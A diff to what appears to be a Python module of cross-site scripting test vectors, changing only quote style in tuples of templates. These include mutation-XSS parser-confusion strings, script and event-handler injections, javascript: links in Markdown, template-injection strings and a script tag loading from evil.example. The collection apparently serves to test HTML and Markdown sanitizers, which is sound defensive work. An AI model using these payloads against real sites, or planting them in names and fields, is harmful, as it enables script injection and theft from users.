@@ -35,7 +35,7 @@ SCHEMES = (
 )
 PLACES = (
     "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]\n\n[x]: {}", '<a href="{}">x</a>', "<a href={}>x</a>", "<form action='{}'><button>x</form>",
-    "<iframe src=\"{}\">", "<object data='{}'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>",
+    '<iframe src="{}">', "<object data='{}'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>",
 )
 FOREIGN = (
     "<svg><script>{}</script></svg>", "<svg><script href='data:,{}'/></svg>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
@@ -47,12 +47,12 @@ FOREIGN = (
 )
 # What a parser takes for text, and the next one that reads its output does not.
 MUTATING = (
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror={}>\">",
-    "<svg></p><style><a id=\"</style><img src=x onerror={}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
-    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><p title='</template><img src=x onerror={}>'>",
-    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<textarea><p title=\"</textarea><img src=x onerror={}>\">",
-    "<title><a title=\"</title><img src=x onerror={}>\">", "<noembed><a title=\"</noembed><img src=x onerror={}>\">",
-    "<iframe><a title=\"</iframe><img src=x onerror={}>\">", "<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>", "<!-- --!><img src=x onerror={}>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={}>">',
+    '<svg></p><style><a id="</style><img src=x onerror={}>">', "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
+    '<noscript><p title="</noscript><img src=x onerror={}>">', "<template><p title='</template><img src=x onerror={}>'>",
+    '<xmp><p title="</xmp><img src=x onerror={}>">', '<textarea><p title="</textarea><img src=x onerror={}>">',
+    '<title><a title="</title><img src=x onerror={}>">', '<noembed><a title="</noembed><img src=x onerror={}>">',
+    '<iframe><a title="</iframe><img src=x onerror={}>">', "<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>", "<!-- --!><img src=x onerror={}>",
     "<![CDATA[><img src=x onerror={}>]]>", "<?xml ><img src=x onerror={}>", "<plaintext><img src=x onerror={}>", "<a><table><a><img src=x onerror={}>",
     "<option><style></option></select><img src=x onerror={}></style>", "<br title='`><img src=x onerror={}>'>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
 )
@@ -60,9 +60,9 @@ MUTATING = (
 BROKEN = (
     "<script>{}</script>", "<SCRIPT>{}</SCRIPT >", "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script\x0c>{}</script>",
     "<script\x00>{}</script>", "<<script>{}//<</script>", "<script>{}", "<script src=//evil.example/x.js></script>", "<script type=module>{}</script>",
-    "<script>/*{}*/{}</script>", "\"><script>{}</script>", "'><script>{}</script>", "</p></div><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
+    "<script>/*{}*/{}</script>", '"><script>{}</script>', "'><script>{}</script>", "</p></div><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
     "</title><script>{}</script>", "-->\n<script>{}</script>", "]]><script>{}</script>", "`<script>{}</script>", "<p/onclick={}>", "<img/src=x/onerror={}>", "<img src=x\x0bonerror={}>",
-    "<img src=x onerror\x0c={}>", "<img src=x onerror=\x01{}>", "<img src=\"x\"onerror=\"{}\">", "<img src=x onerror=&#119;indow.xss=1>", "<img src=x:x onerror='{}'", "<img src='x' onerror='{}'/ >",
+    "<img src=x onerror\x0c={}>", "<img src=x onerror=\x01{}>", '<img src="x"onerror="{}">', "<img src=x onerror=&#119;indow.xss=1>", "<img src=x:x onerror='{}'", "<img src='x' onerror='{}'/ >",
     "<image src=x onerror={}>", "<isindex type=image src=x onerror={}>", "<x onclick={} tabindex=1 autofocus onfocus={}>", "<custom-element onclick={}>x</custom-element>",
 )
 LOADING = (
@@ -77,14 +77,14 @@ LOADING = (
     "<template><img src={}></template>", "<noscript><img src={}></noscript>", "<dialog open><img src={}></dialog>",
 )
 MARKDOWN = (
-    "[<img src=x onerror={0}>](https://a.example)", "[x](https://a.example/\"onmouseover={0}\")", "[x](https://a.example '\"><img src=x onerror={0}>')", "[x](https://a.example \"'><img src=x onerror={0}>\")",
-    "[x](https://a.example\" onclick=\"{0})", "[x](<https://a.example\" onclick=\"{0}>)", "https://a.example/\"onclick=\"{0}", "https://a.example/'><img src=x onerror={0}>", "www.a.example/<img src=x onerror={0}>",
-    "<https://a.example/\"onclick=\"{0}>", "<https://a.example/><img src=x onerror={0}>", "a@b.example\"><img src=x onerror={0}>", "<a@b.example\"onclick={0}>", "```<img src=x onerror={0}>\nx\n```", "```html\n<script>{0}</script>\n```",
-    "``` \"><img src=x onerror={0}>\nx\n```", "`<script>{0}</script>`", "``` ` <script>{0}</script> ```", "    <script>{0}</script>", "> <script>{0}</script>", "- <img src=x onerror={0}>\n  - <svg onload={0}>", "1. <script>{0}\n2. </script>",
+    "[<img src=x onerror={0}>](https://a.example)", '[x](https://a.example/"onmouseover={0}")', "[x](https://a.example '\"><img src=x onerror={0}>')", "[x](https://a.example \"'><img src=x onerror={0}>\")",
+    '[x](https://a.example" onclick="{0})', '[x](<https://a.example" onclick="{0}>)', 'https://a.example/"onclick="{0}', "https://a.example/'><img src=x onerror={0}>", "www.a.example/<img src=x onerror={0}>",
+    '<https://a.example/"onclick="{0}>', "<https://a.example/><img src=x onerror={0}>", 'a@b.example"><img src=x onerror={0}>', '<a@b.example"onclick={0}>', "```<img src=x onerror={0}>\nx\n```", "```html\n<script>{0}</script>\n```",
+    '``` "><img src=x onerror={0}>\nx\n```', "`<script>{0}</script>`", "``` ` <script>{0}</script> ```", "    <script>{0}</script>", "> <script>{0}</script>", "- <img src=x onerror={0}>\n  - <svg onload={0}>", "1. <script>{0}\n2. </script>",
     "*<img src=x onerror={0}>*", "**<script>**{0}**</script>**", "~~<svg onload={0}>~~", "\\<script>{0}\\</script>", "\\\\<script>{0}</script>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
-    "&#x3c;script&#x3e;{0}&#x3C;/script&#x3E;", "&LT;script&GT;{0}&LT;/script&GT;", "&amp;lt;script&amp;gt;{0}", "&lt<script>{0}", "&NewLine;<script>{0}</script>", "[x]: javascript:{0} \"t\"\n\n[x]", "[x\n](javascript:{0})", "[x](\njavascript:{0}\n)",
-    "[x](javascript:{0} \"t\")", "[x]('javascript:{0}')", "[x](\\javascript:{0})", "[x](javascript\\:{0})", "[x](javascript&#x3a;{0})", "[[x](https://a.example)](javascript:{0})", "![[x](javascript:{0})](x)", "| a |\n|---|\n| <img src=x onerror={0}> |",
-    "# <img src=x onerror={0}>", "<!-- {0} --><script>{0}</script>", "<div>\n\n**x**\n\n<script>{0}</script></div>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "{{% {0} %}}", "<%= {0} %>", "[x](#\" onclick={0})",
+    "&#x3c;script&#x3e;{0}&#x3C;/script&#x3E;", "&LT;script&GT;{0}&LT;/script&GT;", "&amp;lt;script&amp;gt;{0}", "&lt<script>{0}", "&NewLine;<script>{0}</script>", '[x]: javascript:{0} "t"\n\n[x]', "[x\n](javascript:{0})", "[x](\njavascript:{0}\n)",
+    '[x](javascript:{0} "t")', "[x]('javascript:{0}')", "[x](\\javascript:{0})", "[x](javascript\\:{0})", "[x](javascript&#x3a;{0})", "[[x](https://a.example)](javascript:{0})", "![[x](javascript:{0})](x)", "| a |\n|---|\n| <img src=x onerror={0}> |",
+    "# <img src=x onerror={0}>", "<!-- {0} --><script>{0}</script>", "<div>\n\n**x**\n\n<script>{0}</script></div>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "{{% {0} %}}", "<%= {0} %>", '[x](#" onclick={0})',
 )
 # Characters that normalisation, or a browser's own decoding, may turn into others.
 CHARACTERS = (
@@ -117,6 +117,6 @@ def _all() -> Iterator[str]:
 
 def names() -> list[str]:
     """Those short enough for names, titles and notes: one of every kind."""
-    breaking = ("\"><img src=x onerror={}>", "'><svg onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", "\" autofocus onfocus={} x=\"", "' onmouseover='{}", "javascript:{}", "{{{{{}}}}}", "<!--<script>{}")
+    breaking = ('"><img src=x onerror={}>', "'><svg onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", '" autofocus onfocus={} x="', "' onmouseover='{}", "javascript:{}", "{{{{{}}}}}", "<!--<script>{}")
     short = [template.replace("{}", RUN) for template in breaking]
     return short + [v for v in vectors()[::37] if len(v) <= 150]
